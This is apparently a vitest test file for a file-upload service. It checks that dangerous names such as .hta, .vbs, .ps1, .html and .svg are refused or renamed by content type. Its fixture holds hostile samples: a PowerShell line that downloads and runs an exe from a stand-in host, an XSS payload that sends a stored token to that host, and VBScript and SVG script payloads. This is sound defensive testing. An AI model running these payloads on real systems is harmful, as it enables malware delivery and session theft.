import { randomUUID } from 'node:crypto';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NAMES_FOLLOW_CONTENT_TYPE } from '../../../../migrations/Migration20261128140000.js';
import { type OfficeFixture, officeFixture, type Party } from '../../../test/factories.js';
import { graphql } from '../../../test/gql/index.js';
import { ok, startTestApp, type TestApp } from '../../../test/harness.js';

const SEND_MESSAGE = graphql(`
  mutation FileNamesSend($input: SendMessageInput!) {
    sendMessage(input: $input) { id attachments { id filename contentType } }
  }
`);

/** Names a program on Windows or a page in a browser would open as something that runs. */
const DANGEROUS = /\.(hta|vbs|vbe|js|jse|wsf|ps1|bat|cmd|exe|scr|lnk|html?|xhtml|svg|mht|url)$/i;

/** What a hostile client sent in the reported attack, by name. */
const ATTACKS: Array<{
  name: string;
  content: string | Buffer;
  stored: string | null;
  contentType?: string;
}> = [
  // HTA is HTML: its tags make it a page whatever the name.
  {
    name: 'faktura_03.pdf.hta',
    content:
      '<hta:application id="f"/>\n<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>',
    stored: null,
  },
  // The same name on script text, and on a real PDF.
  {
    name: 'faktura_03.pdf.hta',
    content: 'Sub Window_OnLoad\r\n  CreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n',
    stored: 'faktura_03.pdf.txt',
    contentType: 'text/plain',
  },
  {
    name: 'faktura_03.pdf.hta',
    content: Buffer.from('%PDF-1.7\n%\u00e2\u00e3\n1 0 obj << >> endobj\n%%EOF\n', 'latin1'),
    stored: 'faktura_03.pdf',
    contentType: 'application/pdf',
  },
  {
    name: 'rozliczenie.vbs',
    content:
      'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "powershell -w hidden -enc SQBFAFgA"\r\n',
    stored: 'rozliczenie.txt',
    contentType: 'text/plain',
  },
  {
    name: 'invoice.ps1',
    content:
      'Invoke-WebRequest http://example.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe\n',
    stored: 'invoice.txt',
    contentType: 'text/plain',
  },
  {
    name: 'invoice.ps1. ',
    content: 'Start-Process calc\n',
    stored: 'invoice.txt',
    contentType: 'text/plain',
  },
  {
    name: 'late.html',
    content:
      '<p>Zaległa płatność</p><img src=x onerror="fetch(\'//example.invalid/\'+localStorage.token)">\n',
    stored: 'late.txt',
    contentType: 'text/plain',
  },
  {
    name: 'late.html',
    content: '<!DOCTYPE html><html><body onload="alert(1)">Zaległa płatność</body></html>',
    stored: null,
  },
  {
    name: 'img.svg',
    content:
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="9"/></svg>',
    stored: null,
  },
  {
    name: 'img.svg',
    content:
      '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    stored: null,
  },
  {
    name: 'img.xml',
    content: `<?xml version="1.0"?>\n<!-- ${'logo '.repeat(300)} -->\n<svg xmlns="http://www.w3.org/2000/svg"/>`,
    stored: null,
  },
];

describe('uploads under dangerous names', () => {
  let app: TestApp;
  let f: OfficeFixture;
  let client: Party;
  let company: string;

  const upload = async (token: string, content: string | Buffer, filename: string) => {
    const form = new FormData();
    form.append(
      'file',
      new Blob([typeof content === 'string' ? content : new Uint8Array(content)], {
        type: 'application/octet-stream',
      }),
      filename,
    );
    const response = await fetch(`${app.url}/uploads`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: form,
    });
    return {
      status: response.status,
      body: (await response.json()) as {
        id: string;
        filename: string;
        contentType: string;
        error?: string;
        code?: string;
      },
    };
  };
  const download = (token: string, id: string) =>
    fetch(`${app.url}/files/${id}`, { headers: { authorization: `Bearer ${token}` } });
  const dispositionNames = (response: Response) => {
    const header = response.headers.get('content-disposition') ?? '';
    return [
      /filename="([^"]*)"/.exec(header)?.[1] ?? '',
      decodeURIComponent(/filename\*=UTF-8''([^;\s]+)/.exec(header)?.[1] ?? ''),
    ];
  };
  const filesOf = async (userId: string) =>
    Number(
      (
        await app.orm.em
          .fork()
          .execute<Array<{ n: number }>>(
            'select count(*)::int as n from stored_file where uploader_id = ?',
            [userId],
          )
      )[0]!.n,
    );

  beforeAll(async () => {
    app = await startTestApp();
    f = await officeFixture(app, { companies: 1 });
    client = f.companies[0]!.client;
    company = f.companies[0]!.company.id;
  });
  afterAll(() => app.stop());

  it.each(ATTACKS.map((attack, index) => [`${attack.name} #${index}`, attack] as const))(
    '%s from a client is refused, or stored and downloaded by the office under a safe name',
    async (_label, attack) => {
      const before = await filesOf(client.user.id);
      const { status, body } = await upload(client.token, attack.content, attack.name);
      if (attack.stored === null) {
        expect(status).toBe(415);
        expect(body.code).toBe('UNSUPPORTED_FILE_TYPE');
        expect(body.error).toMatch(/not accepted/);
        expect(await filesOf(client.user.id)).toBe(before);
        return;
      }
      expect(status).toBe(201);
      expect(body).toMatchObject({ filename: attack.stored, contentType: attack.contentType });

      // Attached to a question, it reaches the office; the head downloads it under that name.
      const sent = ok(
        await app.gql(
          SEND_MESSAGE,
          { input: { companyId: company, body: `Plik ${attack.name}`, attachmentIds: [body.id] } },
          client.token,
        ),
      );
      expect(sent.sendMessage.attachments).toEqual([
        { id: body.id, filename: attack.stored, contentType: attack.contentType },
      ]);
      const response = await download(f.head.token, body.id);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe(attack.contentType);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      // Both the ASCII fallback and the UTF-8 name.
      expect(dispositionNames(response)).toEqual([attack.stored, attack.stored]);
      expect(attack.stored).not.toMatch(DANGEROUS);
      await response.arrayBuffer();
    },
  );

  it('renames files stored before the rule under their sniffed type (the migration), so they download safely', async () => {
    const em = app.orm.em.fork();
    const rows: Array<[string, string, string]> = [
      ['late.html', 'text/plain', 'late.txt'],
      ['img.svg', 'application/xml', 'img.xml'],
      ['faktura_03.pdf.hta', 'application/pdf', 'faktura_03.pdf'],
      ['faktura_04.pdf.hta', 'text/plain', 'faktura_04.pdf.txt'],
      ['rozliczenie.vbs', 'text/plain', 'rozliczenie.txt'],
      ['invoice.ps1. ', 'text/plain', 'invoice.txt'],
      ['skan.pdf', 'image/png', 'skan.png'],
      ['notatka', 'text/plain', 'notatka.txt'],
      ['Raport 2024.03', 'application/pdf', 'Raport 2024.03.pdf'],
      ['ZDJĘCIE.JPEG', 'image/jpeg', 'ZDJĘCIE.JPEG'],
      ['Faktura źródłowa.pdf', 'application/pdf', 'Faktura źródłowa.pdf'],
    ];
    const ids: string[] = [];
    for (const [filename, contentType] of rows) {
      const id = randomUUID();
      ids.push(id);
      await app.services.files.storage.write(id, Readable.from([Buffer.from('x')]));
      await em.execute(
        `insert into stored_file (id, uploader_id, filename, size, content_type, sha256, storage_key) values (?, ?, ?, 1, ?, ?, ?)`,
        [id, f.head.user.id, filename, contentType, '0'.repeat(64), id],
      );
    }
    await em.execute(NAMES_FOLLOW_CONTENT_TYPE);
    const stored = await em.execute<Array<{ id: string; filename: string }>>(
      'select id, filename from stored_file where id = any(?::uuid[])',
      [`{${ids.join(',')}}`],
    );
    const byId = new Map(stored.map((row) => [row.id, row.filename]));
    expect(ids.map((id) => byId.get(id))).toEqual(rows.map((row) => row[2]));

    const response = await download(f.head.token, ids[0]!);
    expect(response.status).toBe(200);
    expect(dispositionNames(response)).toEqual(['late.txt', 'late.txt']);
    await response.arrayBuffer();
  });
});
